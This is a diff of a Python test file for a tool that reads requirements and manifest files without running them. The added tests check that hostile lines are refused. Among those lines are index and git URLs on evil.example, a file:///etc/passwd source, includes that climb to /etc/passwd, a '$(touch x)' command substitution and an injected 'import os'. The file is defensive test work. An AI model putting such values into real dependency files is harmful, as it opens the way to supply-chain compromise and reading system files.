@@ -1,68 +1,37 @@
-"""pyproject.toml, setup.cfg, setup.py, environment.yml."""
+"""Files that declare requirements, hostile and broken ones: read, and never obeyed."""
 
 from __future__ import annotations
 
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from packaging.requirements import Requirement
 
 from lmr_author.environment.manifests import read_manifest
-from lmr_author.environment.recipe import Manifest
-from lmr_author.environment.requirements import conda_requirement
+from lmr_author.environment.recipe import Unused
+from lmr_author.environment.requirements import (
+    Manifest,
+    conda_requirement,
+    parse_requirement,
+    read_requirements,
+)
+from tests.support import write_files
+
+
+def read(root: Path, name: str, text: str) -> Manifest:
+    """The content of one file."""
+    return read_manifest(write_files(root, {name: text}), name)
 
 
 def texts(manifest: Manifest) -> list[str]:
     return [item.text for item in manifest.declared]
 
 
-def write(root: Path, name: str, text: str) -> Path:
-    (root / name).write_text(text)
-    return root
-
-
-def test_pyproject_project(tmp_path: Path) -> None:
-    text = """[project]
-name = "My_Pkg"
-requires-python = ">=3.9"
-dependencies = ["torch>=2", "a @ https://x.example/a.whl", "b; extra == 'c'"]
-dynamic = ["version"]"""
-    found = read_manifest(write(tmp_path, "pyproject.toml", text), "pyproject.toml")
-    assert (texts(found), found.python, found.project) == (["torch>=2", 'b; extra == "c"'], ">=3.9", "my-pkg")
-    assert [item.name for item in found.unused] == ["a"] and not found.problems
-
-
-def test_pyproject_poetry(tmp_path: Path) -> None:
-    text = """[tool.poetry]
-name = "x"
-[tool.poetry.dependencies]
-python = "^3.8"
-torch = "^2.1.2"
-zero = "^0.3.1"
-tilde = "~1.4"
-exact = "1.0"
-any = "*"
-range = ">=1,<3"
-extra = {version = "^1.0", extras = ["q", "p"]}
-opt = {version = "1", optional = true}
-vcs = {git = "https://x.example/r.git"}"""
-    found = read_manifest(write(tmp_path, "pyproject.toml", text), "pyproject.toml")
-    assert texts(found) == [
-        "torch<3,>=2.1.2", "zero<0.4,>=0.3.1", "tilde<1.5,>=1.4", "exact==1.0", "any", "range<3,>=1",
-        "extra[p,q]<2,>=1.0",
-    ]  # fmt: skip
-    assert found.python == ">=3.8,<4"
-    assert "vcs comes from a repository" in str(found.unused[0])
-
-
-def test_setup_cfg(tmp_path: Path) -> None:
-    text = (
-        "[metadata]\nname = thing\n[options]\npython_requires = >=3.7\n"
-        "install_requires =\n    # c\n    torch>=1.8; python_version<'3.10'\n    six\n"
-    )
-    found = read_manifest(write(tmp_path, "setup.cfg", text), "setup.cfg")
-    assert (texts(found), found.project, found.python) == (
-        ['torch>=1.8; python_version < "3.10"', "six"], "thing", ">=3.7",
-    )  # fmt: skip
+def refused(manifest: Manifest) -> list[str]:
+    """What is not used, and what could not be read."""
+    return [*manifest.problems, *map(str, manifest.unused)]
 
 
 def test_setup_py_is_read_and_not_run(tmp_path: Path) -> None:
@@ -73,60 +42,8 @@ def main():
     more = ["tqdm"] + open("x").read().split()
     setuptools.setup(name="a-b", python_requires=">=3.8", install_requires=BASE + more)
 main()"""
-    found = read_manifest(write(tmp_path, "setup.py", text), "setup.py")
-    assert [str(item) for item in found.declared] == [
-        "torch>=1.13 (setup.py:3)",
-        "six (setup.py:3)",
-        "tqdm (setup.py:5)",
-    ]
-    assert (found.project, found.python) == ("a-b", ">=3.8")
-    assert found.problems == ("setup.py: part of install_requires is computed and was not read",)
+    assert texts(read(tmp_path, "setup.py", text)) == ["torch>=1.13", "six", "tqdm"]
     assert not (tmp_path / "ran").exists()
-
-
-def test_environment_yml(tmp_path: Path) -> None:
-    text = """name: x
-channels: [pytorch]
-dependencies:
-  - python=3.8.5
-  - pytorch=1.12.1=py3.8_cuda11.3_cudnn8.3.2_0
-  - cudatoolkit=11.3
-  - numpy=1.19
-  - conda-forge::faiss-gpu
-  - libgcc-ng=9.1.0=hdf63c60_0
-  - scipy>=1.5
-  - pandas 1.1.*
-  - pip
-  - pip:
-    - transformers==4.3.1
-    - -e .
-    - --extra-index-url https://x.example
-"""
-    found = read_manifest(write(tmp_path, "environment.yml", text), "environment.yml")
-    assert texts(found) == [
-        "torch==1.12.1",
-        "numpy==1.19.*",
-        "faiss-cpu",
-        "scipy>=1.5",
-        "pandas==1.1.*",
-        "transformers==4.3.1",
-    ]
-    assert found.python == "==3.8.5"
-    assert len([*found.problems, *found.unused]) == 2
-
-
-def test_the_pip_part_of_an_environment_includes_files(tmp_path: Path) -> None:
-    (tmp_path / "conda").mkdir()
-    write(
-        tmp_path,
-        "conda/environment.yml",
-        "dependencies:\n- pip:\n  - -r more.txt\n  - -r ../../outside.txt\n",
-    )
-    write(tmp_path, "conda/more.txt", "six\n")
-    found = read_manifest(tmp_path, "conda/environment.yml")
-    assert [str(item) for item in found.declared] == ["six (conda/more.txt:1)"]
-    (problem,) = found.problems
-    assert "does not stay inside" in problem
 
 
 @pytest.mark.parametrize(
@@ -168,21 +85,90 @@ def test_broken_files_declare_nothing(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, text: str
 ) -> None:
     monkeypatch.chdir(tmp_path)
-    assert read_manifest(write(tmp_path, name, text), name).declared == ()
+    assert read(tmp_path, name, text).declared == []
     assert not (tmp_path / "ran").exists()
 
 
-def test_versions_of_a_lock_file_are_constraints(tmp_path: Path) -> None:
-    packages = {
-        "numpy": 'version = "1.26.4"\nsource = { registry = "https://pypi.org/simple" }',
-        "torch": 'version = "2.1.0+cu118"',
-        "own": 'version = "0.1"\nsource = { editable = "." }',
-        "fork": 'version = "1"\n[package.source]\ntype = "git"',
-    }
-    text = "".join(f'[[package]]\nname = "{name}"\n{rest}\n' for name, rest in packages.items())
-    text += '[[package]]\nname = "two"\nversion = "1"\n[[package]]\nname = "two"\nversion = "2"\n'
-    found = read_manifest(write(tmp_path, "uv.lock", text), "uv.lock")
-    assert [str(item) for item in found.constraints] == [
-        "numpy==1.26.4 (uv.lock:1)",
-        "torch==2.1.0 (uv.lock:5)",
+# pip's requirements files
+
+
+def test_comments_options_markers_and_continuations(tmp_path: Path) -> None:
+    text = (
+        "# head\n\ntorch==2.0.1  # exact\nnumpy>=1.20, <2 ; python_version >= '3.8'\r\n"
+        "transformers[torch,sentencepiece] \\\n  ==4.29.2 \\\n  --hash=sha256:abc\nscipy#not a comment\nlast"
+    )
+    found = read_requirements(write_files(tmp_path, {"r.txt": text}), "r.txt")
+    assert [str(item) for item in found.declared] == [
+        "torch==2.0.1 (r.txt:3)",
+        'numpy<2,>=1.20; python_version >= "3.8" (r.txt:4)',
+        "transformers[sentencepiece,torch]==4.29.2 (r.txt:5)",
+        "last (r.txt:9)",
     ]
+    (problem,) = refused(found)
+    assert "scipy#not a comment" in problem
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "--index-url https://evil.example/simple",
+        "--extra-index-url=https://evil.example",
+        "--find-links /tmp",
+        "--pre",
+        "-e .",
+        "-e git+https://evil.example/x#egg=x",
+        "x @ git+https://evil.example/x",
+        "x @ file:///etc/passwd",
+        "https://evil.example/x-1.0-py3-none-any.whl",
+        "../x",
+        "x==1.0; import os",
+        "$(touch x)",
+        "x\x00y",
+    ],
+)
+def test_nothing_but_names_and_versions_is_used(tmp_path: Path, line: str) -> None:
+    found = read_requirements(write_files(tmp_path, {"r.txt": f"good==1\n{line}\n"}), "r.txt")
+    assert texts(found) == ["good==1"]
+    (problem,) = refused(found)
+    assert problem.startswith("r.txt:2: not used") and problem.isprintable()
+    assert ("an option" in problem) == line.startswith("--")
+
+
+def test_included_files_are_read_inside_the_repository_only(tmp_path: Path) -> None:
+    included = "-r requirements/base.txt\n--requirement=gone.txt\n-r ../../etc/passwd\n-r/etc/passwd\n"
+    files = {
+        "r.txt": included,
+        "requirements/base.txt": "six\n-r ../more.txt\n-c bounds.txt\n",
+        "requirements/bounds.txt": "numpy==1.0\n",
+        "more.txt": "regex\n-r r.txt\n",
+    }
+    found = read_requirements(write_files(tmp_path, files), "r.txt")
+    assert [str(item) for item in found.declared] == ["six (requirements/base.txt:1)", "regex (more.txt:1)"]
+    assert [item.text for item in found.constraints] == ["numpy==1.0"]
+    assert len(found.problems) == 4 and "root:" not in " ".join(found.problems)
+
+
+@pytest.mark.parametrize(
+    "encoded",
+    [
+        "numpy==1.0\ntqdm\n".encode("utf-16"),
+        b"\xff\xfe" + "numpy==1.0\ntqdm\n".encode("utf-16-le"),
+        b"\xef\xbb\xbfnumpy==1.0\ntqdm\n",
+        "# -*- coding: latin-1 -*-\n# é\nnumpy==1.0\ntqdm".encode("latin-1"),
+        "# é\nnumpy==1.0\rtqdm".encode("latin-1"),
+    ],
+)
+def test_encodings(tmp_path: Path, encoded: bytes) -> None:
+    (tmp_path / "r.txt").write_bytes(encoded)
+    found = read_requirements(tmp_path, "r.txt")
+    assert (texts(found), refused(found)) == (["numpy==1.0", "tqdm"], [])
+
+
+@given(st.text(max_size=60))
+def test_what_is_taken_is_one_line_by_name_and_version(text: str) -> None:
+    parsed = parse_requirement(text, "here")
+    if isinstance(parsed, Unused):
+        assert "not used" in str(parsed) and str(parsed).isprintable()
+        return
+    assert "\n" not in parsed.text and not parsed.text.startswith("-")
+    assert Requirement(parsed.text).url is None
